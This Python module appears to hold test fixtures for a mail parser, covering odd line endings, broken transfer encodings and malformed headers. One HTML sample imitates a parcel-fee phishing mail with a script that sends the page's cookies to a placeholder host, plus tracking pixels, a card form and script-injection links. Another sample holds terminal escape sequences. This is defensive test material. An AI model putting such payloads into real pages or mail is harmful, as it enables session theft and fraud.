"""Bodies with odd lines, odd HTML and odd transfer encodings."""

from __future__ import annotations

import binascii

from samples.building import Person, Sample, as_read, raw_part, text_part, wire
from samples.oddity import odd
from samples.people import (
    CLAIRE,
    GRACE,
    OSKAR,
    PRIYA,
    RAFAEL,
    TOMASZ,
    WATCH,
    YUKI,
)

EIGHT_BIT = "Content-Transfer-Encoding: 8bit"
SEVEN_BIT = "Content-Transfer-Encoding: 7bit"


def _body(
    name: str, oddity: str, sender: Person, subject: str, content_type: str, body: bytes, read: str
) -> Sample:
    """A message of one text/plain part whose octets are given; `read` is how its text begins."""
    part = raw_part(content_type, body, SEVEN_BIT if body.isascii() else EIGHT_BIT)
    return odd(name, oddity, sender, subject, part=part, text_starts=read, html_starts=None, attachments=[])


READINGS = "level 212 cm; " * 357 + "."  # with one more dot: 5,000 octets

LINES: tuple[Sample, ...] = (
    odd(
        "body-lines-beginning-with-dots",
        "lines that begin with dots, and one that is only a dot: POP3 doubles the first dot on the wire",
        PRIYA,
        "Hidden files on the logger",
        ".profile\n..\n...and so on\n.\nafter the lone dot\n. indented\n",
    ),
    odd(
        "body-line-of-5000-octets",
        "one line of 5,000 octets",
        WATCH,
        "Readings in one line",
        f"{READINGS}.\nthat was one line\n",
    ),
    _body(
        "body-nul-byte",
        "a NUL octet in the body",
        WATCH,
        "[OK] modem said hello",
        "text/plain; charset=utf-8",
        wire("modem said: hello\0 world\nand went to sleep\n"),
        "modem said: hello world\nand went to sleep",
    ),
    _body(
        "body-bare-cr",
        "a CR without LF inside the body",
        RAFAEL,
        "Pasted from an old terminal",
        "text/plain; charset=utf-8",
        b"progress 10 %\rprogress 90 %\rdone\r\nbye\r\n",
        "progress 10 %\nprogress 90 %\ndone\nbye",
    ),
    _body(
        "body-bare-lf",
        "LF without CR inside the body",
        RAFAEL,
        "Pasted from a new terminal",
        "text/plain; charset=utf-8",
        b"first line\nsecond line\nthird line\r\nbye\r\n",
        "first line\nsecond line\nthird line\nbye",
    ),
    _body(
        "body-bare-lf-around-a-dot",
        "a dot between bare LFs, then what looks like a reply of the server: it ends no message",
        GRACE,
        "Notes on the old protocol",
        "text/plain; charset=utf-8",
        b"the end of a message?\n.\n+OK message deleted\r\nno, it goes on\r\n",
        "the end of a message?\n.\n+OK message deleted\nno, it goes on",
    ),
    _body(
        "body-terminal-escapes",
        "escape sequences that would clear a terminal and rename its window",
        WATCH,
        "[WARN] modem of PH-04 babbles",
        "text/plain; charset=utf-8",
        wire("modem said: \x1b[2J\x1b]0;owned\x07 hello\n"),
        "modem said: \x1b[2J\x1b]0;owned\x07 hello",
    ),
    odd(
        "body-empty",
        "an empty line after the headers and nothing more",
        TOMASZ,
        "On my way (eom)",
        part=raw_part("text/plain; charset=utf-8", b"", SEVEN_BIT),
        text_starts="",
        html_starts=None,
        attachments=[],
    ),
    _body(
        "body-format-flowed",
        "lines that end with a blank and want to be joined (RFC 3676): kept as received",
        RAFAEL,
        "A longer thought",
        "text/plain; charset=utf-8; format=flowed; delsp=no",
        wire("Tape on the ports works, \nbut the tape must be \ncopper.\n> and free of lacquer\n"),
        "Tape on the ports works, \nbut the tape must be \ncopper.\n> and free of lacquer",
    ),
    odd(
        "body-uuencode-inside-text",
        "a uuencoded file in the middle of plain text: it stays text",
        RAFAEL,
        "The way we used to do it",
        "Here is the file:\n\nbegin 644 hello.txt\n,:&5L;&\\@=VEN8V@*\n`\nend\n\nDid it arrive?\n",
    ),
)

HTML_ONLY = """
<!DOCTYPE html>
<html><body><p>Dear Ines,</p><p>the berth list is <b>final</b>.</p><p>Grace</p></body></html>
"""

HOSTILE = """
<html><head><meta http-equiv="refresh" content="0; url=https://parcel-counter.invalid/go">
<link rel="stylesheet" href="https://parcel-counter.invalid/s.css">
<style>@import "//parcel-counter.invalid/i.css";
body { background: url(https://parcel-counter.invalid/b.png) }</style>
<script>fetch("https://parcel-counter.invalid/?" + document.cookie)</script></head>
<body onload="alert('parcel')">
<p>Your parcel waits for <a href="javascript:alert(document.domain)">a small fee</a>.</p>
<img src="https://parcel-counter.invalid/seen.gif?to=ines" width="1" height="1">
<img src="x" onerror="alert('image')">
<svg><script>alert('svg')</script></svg>
<iframe src="https://parcel-counter.invalid/frame"></iframe>
<form action="https://parcel-counter.invalid/pay"><input name="card"><button>Pay</button></form>
<a href="data:text/html,<script>alert('data')</script>">Invoice</a>
</body></html>
"""

ENCODINGS: tuple[Sample, ...] = (
    odd(
        "body-html-only",
        "HTML without a plain text beside it",
        GRACE,
        "Berth list",
        part=text_part(HTML_ONLY, "html"),
        text_starts=None,
        html_starts=as_read(HTML_ONLY),
        attachments=[],
    ),
    odd(
        "body-hostile-html",
        "HTML with scripts, remote pictures, a refresh, a javascript: link, a frame and a form",
        Person("Parcel Counter", "desk@parcel-counter.invalid"),
        "Your parcel could not be delivered",
        part=text_part(HOSTILE, "html"),
        text_starts=None,
        html_starts=as_read(HOSTILE),
        attachments=[],
    ),
    odd(
        "body-base64-truncated",
        "a text in base64 that was cut inside its last group of four",
        YUKI,
        "Cut by the gateway",
        part=raw_part(
            "text/plain; charset=utf-8",
            binascii.b2a_base64(b"The gateway cuts mails after a few octets.", newline=False)[:45] + b"\r\n",
            "Content-Transfer-Encoding: base64",
        ),
        text_starts="The gateway cuts mails after a fe",
        html_starts=None,
        attachments=[],
        parse_error="encoding",
    ),
    odd(
        "body-quoted-printable-broken",
        "quoted-printable with a stray =, wrong digits and a last line that promises another",
        CLAIRE,
        "Fifty-fifty",
        part=raw_part(
            "text/plain; charset=utf-8",
            b"caf=C3=A9 for two\r\n50 =% of the price, =ZZ, sum = 12\r\nto be continued=\r\n",
            "Content-Transfer-Encoding: quoted-printable",
        ),
        text_starts="café for two\n50 =% of the price, =ZZ, sum = 12\nto be continued",
        html_starts=None,
        attachments=[],
        unsure=("parse_error",),
    ),
    odd(
        "body-transfer-encoding-unknown",
        "a transfer encoding nobody knows: the octets as they are",
        WATCH,
        "[OK] gateway renamed",
        part=raw_part(
            "text/plain; charset=utf-8", wire("Now it is called gull.\n"), "Content-Transfer-Encoding: x-tide"
        ),
        text_starts="Now it is called gull.",
        html_starts=None,
        attachments=[],
        unsure=("parse_error",),
    ),
    odd(
        "body-transfer-encoding-uuencode",
        "uuencode as the transfer encoding of the whole body",
        RAFAEL,
        "The way we did it before that",
        part=raw_part(
            "text/plain; charset=us-ascii",
            b"begin 644 note.txt\r\n"
            + binascii.b2a_uu(b"hello winch\n").replace(b"\n", b"\r\n")
            + b"`\r\nend\r\n",
            "Content-Transfer-Encoding: x-uuencode",
        ),
        text_starts="hello winch",
        html_starts=None,
        attachments=[],
    ),
    odd(
        "body-content-type-without-slash",
        "a Content-Type of one word, as programs wrote it before MIME: read as plain text",
        OSKAR,
        "From the lathe",
        part=raw_part("text", wire("Part 12 is done.\n")),
        text_starts="Part 12 is done.",
        html_starts=None,
        attachments=[],
    ),
    odd(
        "body-content-type-missing",
        "no Content-* header at all: read as plain text",
        OSKAR,
        "From the lathe, again",
        headers={"MIME-Version": None},
        part=b"\r\n" + wire("Part 13 is done too.\n"),
        text_starts="Part 13 is done too.",
        html_starts=None,
        attachments=[],
    ),
)

ODD_BODIES: tuple[Sample, ...] = (*LINES, *ENCODINGS)
